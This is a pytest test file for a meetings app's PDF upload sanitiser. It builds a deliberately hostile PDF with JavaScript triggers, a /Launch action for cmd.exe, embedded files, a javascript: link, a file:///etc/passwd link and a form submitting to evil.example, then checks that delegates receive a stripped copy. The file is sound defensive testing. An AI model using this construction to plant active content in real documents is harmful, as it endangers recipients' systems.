"""Documents: uploads are disarmed (issue 13, item 5).

A hostile PDF (JavaScript on opening, page and form-field triggers, a /Launch
link, embedded files, a file-attachment annotation, a form that submits) is
uploaded through the REST API; the copy a delegate downloads carries none of it
(checked with pikepdf over every object of the file), has the same pages and the
same text (pdftotext), while the original stays byte-identical and downloadable
by the secretariat only. A benign PDF passes through untouched, and every file
goes out under a name ending in ``.pdf``.
"""
from __future__ import annotations

import hashlib
import io
import subprocess
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import select

from meetings.core.extensions import db
from meetings.documents import storage
from meetings.platform.audit.models import AuditEntry
from tests import pdfs
from tests.pdfs import new_version, upload

PDFTOTEXT = "/usr/bin/pdftotext"

# Names that must not occur anywhere in a delivered file (as a key or a value).
FORBIDDEN = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/Launch", "/SubmitForm", "/ImportData",
             "/GoToR", "/GoToE", "/EmbeddedFiles", "/EmbeddedFile", "/EF", "/FileAttachment", "/XFA"}


def _js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _annot(**entries) -> Dictionary:
    return Dictionary(Type=Name.Annot, Border=[0, 0, 0], **entries)


def hostile_pdf(pages: int = 2, *, signed: bool = False) -> bytes:
    """A ReportLab PDF with every kind of active content the disarm removes, and a web link it keeps."""
    pdf = pikepdf.open(io.BytesIO(pdfs.simple_pdf(pages)))
    first, last = pdf.pages[0].obj, pdf.pages[-1].obj
    pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('opened')"))
    embedded = pdf.make_indirect(Dictionary(
        Type=Name.Filespec, F=String("readme.txt"),
        EF=Dictionary(F=pdf.make_stream(b"EMBEDDED-PAYLOAD-1", Type=Name.EmbeddedFile))))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js("app.alert('doc')"))])),
        EmbeddedFiles=Dictionary(Names=Array([String("readme.txt"), embedded])))
    first.AA = Dictionary(O=_js("app.alert('page open')"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    launch_link = pdf.make_indirect(_annot(Subtype=Name.Link, Rect=[72, 600, 200, 620], A=launch))
    web_link = pdf.make_indirect(_annot(Subtype=Name.Link, Rect=[72, 560, 200, 580],
                                            A=Dictionary(S=Name.URI, URI=String("https://example.org/"))))
    js_link = pdf.make_indirect(_annot(Subtype=Name.Link, Rect=[72, 520, 200, 540],
                                           A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))))
    attachment = pdf.make_indirect(_annot(Subtype=Name.FileAttachment, Rect=[72, 480, 90, 500],
                                              FS=Dictionary(Type=Name.Filespec, F=String("tool.exe"), EF=Dictionary(
                                                  F=pdf.make_stream(b"MZ-EMBEDDED-PAYLOAD-2",
                                                                    Type=Name.EmbeddedFile)))))
    text_field = pdf.make_indirect(_annot(Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
                                              Rect=[72, 400, 300, 420], P=last,
                                              AA=Dictionary(K=_js("event.rc = true"), V=_js("validate()"))))
    button = pdf.make_indirect(_annot(Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"),
                                          Rect=[72, 360, 300, 380], P=last,
                                          A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"),
                                                       Next=_js("app.alert('sent')"))))
    fields = [text_field, button]
    if signed:  # a signature field with a value, as signing software leaves it
        fields.append(pdf.make_indirect(_annot(
            Subtype=Name.Widget, FT=Name.Sig, T=String("sig"), Rect=[0, 0, 0, 0], P=last,
            V=Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"),
                         ByteRange=[0, 0, 0, 0], Contents=String(b"\x00" * 16)))))
    first.Annots = Array([launch_link, web_link, js_link, attachment])
    last.Annots = Array(fields)
    pdf.Root.AcroForm = Dictionary(Fields=Array(fields), SigFlags=3 if signed else 0)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def active_names(data: bytes) -> set[str]:
    """Every forbidden name occurring anywhere in the file: every object of its xref, walked deep."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        todo = list(pdf.objects)
        while todo:
            obj = todo.pop()
            if isinstance(obj, pikepdf.Name):
                found.add(str(obj))
            elif isinstance(obj, pikepdf.Array):
                todo.extend(v for v in obj if isinstance(v, pikepdf.Object) and not v.is_indirect)
            elif isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                found.update(obj.keys())
                todo.extend(v for v in obj.values() if isinstance(v, pikepdf.Object) and not v.is_indirect)
    return found & FORBIDDEN


def links(data: bytes) -> list[str]:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return [str(a.A.URI) for page in pdf.pages for a in page.obj.get("/Annots", [])
                if a.get("/Subtype") == "/Link" and "/A" in a and a.A.get("/S") == "/URI"]


def page_texts(data: bytes, tmp_path: Path) -> list[str]:
    path = tmp_path / f"{hashlib.sha256(data).hexdigest()}.pdf"
    path.write_bytes(data)
    out = subprocess.run([PDFTOTEXT, "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True).stdout
    return out.decode("utf-8").split("\f")


def _upload(as_user, world, data: bytes, filename: str = "tờ trình.pdf", **fields) -> dict:
    r = upload(as_user("secretary"), world.meeting.id, data, filename, published="true", **fields)
    assert r.status_code == 201, r.json
    return r.json


def test_hostile_upload_reaches_delegates_disarmed(app, as_user, world, tmp_path):
    data = hostile_pdf(3)
    assert active_names(data) == FORBIDDEN - {"/ImportData", "/GoToR", "/GoToE", "/XFA"}  # the builder works
    doc = _upload(as_user, world, data)
    r = as_user("delegate").get(doc["file_url"])
    assert r.status_code == 200
    served = r.data
    assert active_names(served) == set()
    assert hashlib.sha256(served).hexdigest() == doc["sha256"] and len(served) == doc["size"]
    assert doc["original_sha256"] == hashlib.sha256(data).hexdigest() != doc["sha256"]
    assert doc["disarmed"] == {"open_action": 1, "javascript": 6, "additional_actions": 3, "launch": 1,
                               "uri": 1, "submit_form": 1, "embedded_file": 2, "file_attachment": 1}
    assert doc["signed_original"] is False and doc["pages"] == 3
    for payload in (b"app.alert", b"cmd.exe", b"EMBEDDED-PAYLOAD", b"javascript:", b"evil.example"):
        assert payload not in served
    assert links(served) == ["https://example.org/"]  # web links stay
    texts = page_texts(served, tmp_path)
    assert texts == page_texts(data, tmp_path) and len(texts) == 4  # three pages and the final \f
    assert "Trang 3" in texts[2] and pdfs.VI_TEXT in texts[0]
    # The listing says the same; the audit entry records what was removed.
    (listed,) = as_user("delegate").get(f"/api/v1/meetings/{world.meeting.id}/documents").json
    assert listed["disarmed"] == doc["disarmed"] and listed["original_url"].endswith("/original")
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "document.upload")).scalar_one()
    assert entry.details["disarmed"] == doc["disarmed"]
    assert entry.details["original_sha256"] == doc["original_sha256"]


def test_original_is_kept_byte_identical_for_the_secretariat_only(app, as_user, world):
    data = hostile_pdf(1)
    doc = _upload(as_user, world, data)
    root = app.config["STORAGE_PATH"]
    assert storage.blob_path(root, doc["original_sha256"]).read_bytes() == data
    url = f"/api/v1/documents/{doc['id']}/original"
    for who in ("secretary", "admin"):
        r = as_user(who).get(url)
        assert r.status_code == 200 and r.data == data
        assert r.headers["Content-Disposition"].startswith("attachment")
        assert "no-store" in r.headers["Cache-Control"] and r.headers["Content-Security-Policy"] == "sandbox"
    for who in ("chair", "delegate", "observer"):  # they see the document, not its original
        r = as_user(who).get(url)
        assert r.status_code == 403 and r.json["error"]["code"] == "forbidden"
        assert as_user(who).get(doc["file_url"]).data != data
    assert as_user("outsider").get(url).status_code == 404
    assert as_user(None).get(url).status_code == 401


def test_benign_pdf_passes_through_unchanged(app, as_user, world):
    data = pdfs.simple_pdf(2)
    doc = _upload(as_user, world, data)
    sha = hashlib.sha256(data).hexdigest()
    assert (doc["sha256"], doc["original_sha256"], doc["disarmed"], doc["signed_original"]) == (sha, sha, {}, False)
    assert as_user("delegate").get(doc["file_url"]).data == data
    assert as_user("secretary").get(f"/api/v1/documents/{doc['id']}/original").data == data
    assert pdfs.stored_files(app.config["STORAGE_PATH"]) == [
        str(storage.blob_path("", sha))]  # one blob: the original is the delivered file


@pytest.mark.parametrize(("uploaded", "served"), [
    ("x.exe", "x.exe.pdf"), ("x", "x.pdf"), ("x.PDF", "x.pdf"), ("..\\a;b<c>.pdf", "abc.pdf")])
def test_served_name_always_ends_in_pdf(as_user, world, uploaded, served):
    doc = _upload(as_user, world, hostile_pdf(1), uploaded)
    if uploaded.isalnum() or uploaded.startswith("x."):
        assert doc["filename"] == uploaded  # the record keeps the name as uploaded
    for who, url in (("delegate", doc["file_url"]), ("secretary", f"/api/v1/documents/{doc['id']}/original")):
        disposition = as_user(who).get(url).headers["Content-Disposition"]
        assert disposition.endswith(f'filename={served}') or disposition.endswith(f'filename="{served}"'), \
            disposition


def test_signed_upload_keeps_its_original_and_is_flagged(app, as_user, world):
    data = hostile_pdf(1, signed=True)
    doc = _upload(as_user, world, data)
    # Delegates get the disarmed copy (its signature no longer matches); the original is intact.
    assert active_names(as_user("delegate").get(doc["file_url"]).data) == set()
    assert doc["signed_original"] is True and doc["disarmed"]["javascript"] == 6
    assert as_user("secretary").get(doc["original_url"]).data == data


def test_signed_upload_without_active_content_is_served_as_signed(app, as_user, world):
    pdf = pikepdf.open(io.BytesIO(pdfs.simple_pdf(1)))
    sig = pdf.make_indirect(_annot(Subtype=Name.Widget, FT=Name.Sig, T=String("sig"), Rect=[0, 0, 0, 0],
                                   V=Dictionary(Type=Name.Sig, Contents=String(b"\x00" * 16))))
    pdf.pages[0].obj.Annots = Array([sig])
    pdf.Root.AcroForm = Dictionary(Fields=Array([sig]))
    out = io.BytesIO()
    pdf.save(out)
    doc = _upload(as_user, world, out.getvalue())
    # Nothing to remove: the bytes are not rewritten, so the signature still validates on the tablet.
    assert doc["signed_original"] is True and doc["disarmed"] == {}
    assert doc["sha256"] == doc["original_sha256"]
    assert as_user("delegate").get(doc["file_url"]).data == out.getvalue()


def test_new_version_and_watermarked_copy_are_disarmed(app, as_user, world):
    first = _upload(as_user, world, pdfs.simple_pdf(1), confidentiality="confidential")
    r = new_version(as_user("secretary"), first["id"], hostile_pdf(2))
    assert r.status_code == 201, r.json
    doc = r.json
    stamped = as_user("delegate").get(doc["file_url"]).data  # stamped from the disarmed copy
    assert active_names(stamped) == set() and len(pikepdf.open(io.BytesIO(stamped)).pages) == 2
    assert doc["disarmed"]["launch"] == 1 and doc["sha256"] != doc["original_sha256"]


def _strip(pdf: pikepdf.Pdf) -> dict[str, int]:
    from meetings.documents import disarm  # here: the REST tests above run (and fail) without it

    return disarm.strip(pdf)


def _chain_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf


def test_strip_keeps_safe_actions_and_cuts_unsafe_links_of_a_chain():
    pdf = _chain_pdf()
    page = pdf.pages[0].obj
    goto = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([page, Name.Fit])))
    goto.Next = Array([_js("a()"), Dictionary(S=Name.Named, N=Name.NextPage), goto])  # and a loop back
    pdf.Root.OpenAction = goto
    page.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))))])
    removed = _strip(pdf)
    assert removed == {"javascript": 1, "uri": 1}
    assert pdf.Root.OpenAction.S == Name.GoTo  # moving inside the document is harmless
    assert [str(a.S) for a in pdf.Root.OpenAction.Next] == ["/Named"]
    assert "/A" not in page.Annots[0]
    assert _strip(pdf) == {}  # nothing left the second time


def test_strip_leaves_a_destination_open_action():
    pdf = _chain_pdf()
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    assert _strip(pdf) == {} and "/OpenAction" in pdf.Root
